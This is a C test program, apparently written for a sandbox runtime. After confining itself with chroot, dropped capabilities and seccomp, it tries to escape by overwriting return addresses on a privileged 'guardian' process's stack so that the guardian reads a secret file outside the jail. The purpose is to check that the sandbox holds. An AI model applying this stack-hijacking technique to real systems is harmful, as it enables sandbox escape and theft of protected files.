/* escape: a program that gives up everything tries to make the guardian
 * act for it (issue 9, item 1).
 *   escape OUT SECRET JAIL   (as root, under the runtime)
 * It defers writes to OUT (the guardian starts), learns where the guardian
 * sleeps (its stack pointer in /proc/PID/syscall), then chroots into JAIL,
 * drops every capability and enters SECCOMP_MODE_STRICT.  From there, by
 * memory writes alone, it replaces every word on that stack that looks
 * like a return address into libc with the address of steal(), and dies.
 * A guardian that shared its memory returns into steal(), which opens
 * SECRET (outside the jail) and writes it to stdout.  Prints "gave-up" on
 * stderr once confined; the caller checks that SECRET's contents never
 * reach stdout and that OUT holds every record. */
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/seccomp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static int (*p_open)(const char *, int, ...);
static ssize_t (*p_read)(int, void *, size_t);
static ssize_t (*p_write)(int, const void *, size_t);
static const char *secret;

__attribute__((force_align_arg_pointer, noreturn)) static void steal(void)
{
    char buf[256];
    int fd = p_open(secret, O_RDONLY);
    ssize_t n = fd >= 0 ? p_read(fd, buf, sizeof buf) : -1;
    if (n > 0)
        p_write(1, buf, (size_t)n);
    for (;;)
        p_write(1, "", 0), _exit(0); /* never reached in the sandbox */
}

static int guardian_pid(void)
{
    char path[64], comm[32];
    snprintf(path, sizeof path, "/proc/self/task/%d/children", getpid());
    FILE *f = fopen(path, "r");
    int pid, found = 0;
    while (f && fscanf(f, "%d", &pid) == 1) {
        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        FILE *c = fopen(path, "r");
        if (c && fgets(comm, sizeof comm, c) && strncmp(comm, "syscluster-grd", 14) == 0)
            found = pid;
        if (c)
            fclose(c);
    }
    if (f)
        fclose(f);
    return found;
}

int main(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    secret = argv[2];
    void *libc = dlopen("libc.so.6", RTLD_NOLOAD | RTLD_NOW);
    p_open = dlsym(libc, "open");
    p_read = dlsym(libc, "read");
    p_write = dlsym(libc, "write");
    int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
    char rec[16];
    for (int i = 0; i < 100; i++) {
        snprintf(rec, sizeof rec, "%07d\n", i);
        write(fd, rec, 8);
    }
    usleep(50000); /* the guardian wrote them out and sleeps */
    int g = guardian_pid();
    uintptr_t sp = 0, lo = 0, hi = 0, libc_lo = UINTPTR_MAX, libc_hi = 0;
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/syscall", g);
    FILE *f = g ? fopen(path, "r") : NULL;
    if (f && fgets(line, sizeof line, f)) {
        char *last = strrchr(line, ' ');
        if (last) {
            *last = 0;
            char *prev = strrchr(line, ' ');
            if (prev)
                sp = strtoull(prev + 1, NULL, 16);
        }
    }
    if (f)
        fclose(f);
    /* Where that stack would be in our memory, and libc's code. */
    f = fopen("/proc/self/maps", "r");
    while (f && fgets(line, sizeof line, f)) {
        uintptr_t a, b;
        char perm[8];
        if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3)
            continue;
        if (sp >= a && sp < b && perm[1] == 'w')
            lo = sp, hi = b;
        if (strstr(line, "libc.so") && perm[2] == 'x') {
            if (a < libc_lo)
                libc_lo = a;
            if (b > libc_hi)
                libc_hi = b;
        }
    }
    if (f)
        fclose(f);
    for (int i = 100; i < 200; i++) { /* pending when we die */
        snprintf(rec, sizeof rec, "%07d\n", i);
        write(fd, rec, 8);
    }
    /* Give up everything. */
    if (chroot(argv[3]) != 0 || chdir("/") != 0)
        return 3;
    for (int cap = 0; cap < 64; cap++)
        prctl(PR_CAPBSET_DROP, cap, 0, 0, 0);
    struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct d[2] = {{0, 0, 0}, {0, 0, 0}};
    if (syscall(SYS_capset, &h, d) != 0)
        return 4;
    if (p_open(secret, O_RDONLY) >= 0)
        return 5; /* the jail does not hold: the test proves nothing */
    fprintf(stderr, "gave-up sp=%lx stack=%lx-%lx\n", (unsigned long)sp, (unsigned long)lo, (unsigned long)hi);
    if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_STRICT, 0, 0, 0) != 0)
        return 6;
    /* Memory writes alone. */
    for (uintptr_t *w = (uintptr_t *)lo; (uintptr_t)w < hi; w++)
        if (*w >= libc_lo && *w < libc_hi)
            *w = (uintptr_t)steal;
    /* Die (strict mode allows exit, not exit_group: SIGKILL). */
    _exit(0);
}
